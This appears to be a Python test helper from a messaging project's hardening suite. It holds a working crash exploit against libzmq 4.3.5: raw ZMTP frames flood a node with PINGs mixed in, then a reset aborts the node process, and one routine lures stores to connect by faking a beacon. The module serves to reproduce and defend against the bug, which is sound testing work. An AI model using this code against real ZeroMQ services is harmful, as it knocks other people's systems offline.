"""A stranger that crashes a plaintext node inside libzmq 4.3.5: PINGs, a flood, a reset.

libzmq stops reading a connection while the socket's queue from that peer is full; a reset
then marks the engine failed but leaves it alive until the node catches up; and when it does,
libzmq answers a PING still in the connection's read buffer - a write on a failed engine,
which aborts the process (``Assertion failed: !_io_error (src/stream_engine_base.cpp:310)``,
docs/nodes.md "Limits against strangers"). This peer speaks raw ZMTP 3.1 over a plain TCP
socket: it floods frames the node passes up to Python (so that it reads slower than they
come) with a PING among every few, then resets the connection (``SO_LINGER`` 0).

* :func:`attack_store`: beacons its own listening address through a tower, so that a store's
  two SUBs connect to it, and floods both;
* :func:`attack_tower`: connects to a tower's beacon input and floods it with beacons.

Used by ``scripts/zmq_abort.py`` and ``test_supervised_daemon.py``.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
import uuid

import zmq

from dafka.transport.sockets import CONTROL_MESSAGE_BYTES, make_socket
from tests.integration.hardening.stranger import GREETING, endpoint_address


def _command(body: bytes) -> bytes:
    return bytes([0x04, len(body)]) + body


_READY_PUB = _command(b"\x05READY\x0bSocket-Type" + struct.pack(">I", 3) + b"PUB")
PING = _command(b"\x04PING" + struct.pack(">H", 0))
STORE_FLOOD = (bytes([0, 10]) + b"M" * 10 + bytes([0, 10]) + b"F" * 10) * 4 + PING
"""Frames a store's SUBs pass up to Python (``M``: RECORDs, ``F``: FETCHes; undecodable, so
counted and dropped), a PING among every 8."""
BEACON_FLOOD = (
    b"".join(
        bytes([0x01, len(frame)]) + frame for frame in (b"B", b"stranger-beacon", b"127.0.0.1")
    )
    + bytes([0, 4])
    + b"5999"
) * 2 + PING
"""Beacons a tower decodes and forwards in Python, a PING among every 2."""


def flood_and_reset(conn: socket.socket, seconds: float, flood: bytes) -> int:
    """Handshake as a PUB on ``conn``, send ``flood`` over and over for ``seconds`` (or until
    the peer has read nothing for 0.5 s), then reset the connection; the bytes sent."""
    with conn:  # closed on every way out: a node that died mid-flood ends it early
        conn.settimeout(5.0)
        greeting = b""
        try:
            conn.sendall(GREETING)
            while len(greeting) < 64:
                chunk = conn.recv(64 - len(greeting))
                if not chunk:
                    return 0
                greeting += chunk
            conn.sendall(_READY_PUB)
        except OSError:
            return 0  # it hung up (or never greeted) before the flood
        conn.settimeout(0.5)
        chunk, sent = flood * (8192 // len(flood) + 1), 0
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline:
                sent += conn.send(chunk)
        except TimeoutError:
            pass  # its kernel buffer and ours are full: libzmq stopped reading
        except OSError:
            return sent
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    return sent  # closed with SO_LINGER 0: a reset


def attack_store(tower_sub_endpoint: str, seconds: float = 2.0, wait: float = 20.0) -> int:
    """Beacon a made-up node at our own listening socket through the tower until a store's
    writer and reader SUBs connected, flood each for ``seconds`` and reset it; the bytes
    sent. Beacons go on all along: a peer the store stops hearing of is disconnected (its
    connection torn down cleanly) before the reset. Raises AssertionError if no store
    connected within ``wait`` seconds."""
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    beacon = make_socket(context, zmq.PUB, linger_ms=0, max_inbound_bytes=CONTROL_MESSAGE_BYTES)
    beacon.connect(tower_sub_endpoint)
    sent: list[int] = []
    threads: list[threading.Thread] = []
    try:
        with socket.socket() as server:
            server.bind(("127.0.0.1", 0))
            server.listen(4)
            server.settimeout(0.2)
            port = str(server.getsockname()[1]).encode()
            node_id = b"stranger-" + uuid.uuid4().hex[:8].encode()
            deadline = time.monotonic() + wait
            while len(threads) < 2 or any(thread.is_alive() for thread in threads):
                beacon.send_multipart([b"B", node_id, b"127.0.0.1", port])
                if len(threads) == 2:  # writer and reader SUBs connected: flooding
                    time.sleep(0.1)
                    continue
                assert time.monotonic() < deadline, "no store connected to the stranger"
                try:
                    conn, _ = server.accept()
                except TimeoutError:
                    continue
                thread = threading.Thread(
                    target=lambda c=conn: sent.append(flood_and_reset(c, seconds, STORE_FLOOD))
                )
                thread.start()
                threads.append(thread)
    finally:
        for thread in threads:
            thread.join()
        beacon.close()
        context.term()
    return sum(sent)


def attack_tower(tower_sub_endpoint: str, seconds: float = 2.0) -> int:
    """Connect to a tower's beacon input, flood it with beacons for ``seconds`` and reset;
    the bytes sent."""
    with socket.create_connection(endpoint_address(tower_sub_endpoint)) as conn:
        return flood_and_reset(conn, seconds, BEACON_FLOOD)


__all__ = ["BEACON_FLOOD", "PING", "STORE_FLOOD", "attack_store", "attack_tower", "flood_and_reset"]
